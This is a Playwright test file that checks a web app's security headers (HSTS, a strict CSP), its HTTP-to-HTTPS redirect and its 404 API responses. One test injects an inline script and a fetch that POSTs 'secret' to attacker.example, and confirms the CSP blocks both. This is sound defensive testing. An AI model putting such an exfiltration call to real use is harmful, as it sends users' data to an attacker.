import { expect, test } from '@playwright/test';
import { request as httpRequest } from 'node:http';

const httpsPort = Number(process.env.SEALVAULT_E2E_PORT ?? 18443);

test('answers carry HSTS and a strict CSP without unsafe-inline or unsafe-eval for scripts', async ({ page }) => {
  const response = await page.goto('/');
  const headers = response!.headers();
  expect(headers['strict-transport-security']).toMatch(/max-age=\d{8,}/);
  const csp = headers['content-security-policy']!;
  const scriptSrc = csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src'))!;
  expect(scriptSrc).not.toContain("'unsafe-inline'");
  expect(scriptSrc).not.toContain("'unsafe-eval'");
  expect(csp).toContain("default-src 'none'");
  expect(csp).toContain("frame-ancestors 'none'");
});

test('an injected inline script and a request to another origin are both blocked by the CSP', async ({ page }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Sealvault', exact: true })).toBeVisible();
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.body.appendChild(s);
    let fetchFailed = false;
    try {
      await fetch('https://attacker.example/steal', { method: 'POST', body: 'secret' });
    } catch {
      fetchFailed = true;
    }
    await new Promise((r) => setTimeout(r, 200));
    return { seen, injected: (window as unknown as { __injected?: boolean }).__injected === true, fetchFailed };
  });
  expect(violations.injected).toBe(false);
  expect(violations.fetchFailed).toBe(true);
  expect(violations.seen).toContain('script-src-elem');
  expect(violations.seen).toContain('connect-src');
});

test('plain HTTP only redirects to HTTPS, keeping path and query', async () => {
  const res = await new Promise<{ status: number; location?: string; body: string }>((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port: httpsPort + 1, path: '/contracts/42?tab=files', headers: { host: `localhost:${httpsPort + 1}` } }, (r) => {
      let body = '';
      r.on('data', (c) => (body += c));
      r.on('end', () => resolve({ status: r.statusCode!, location: r.headers.location, body }));
    });
    req.on('error', reject);
    req.end();
  });
  expect(res.status).toBe(308);
  expect(res.location).toBe(`https://localhost:${httpsPort}/contracts/42?tab=files`);
  expect(res.body).not.toContain('<script');
});

test('unknown API routes answer 404 JSON, not the SPA', async ({ request }) => {
  const res = await request.get('/api/nope');
  expect(res.status()).toBe(404);
  expect((await res.json()).error.code).toBe('E_NOT_FOUND');
});
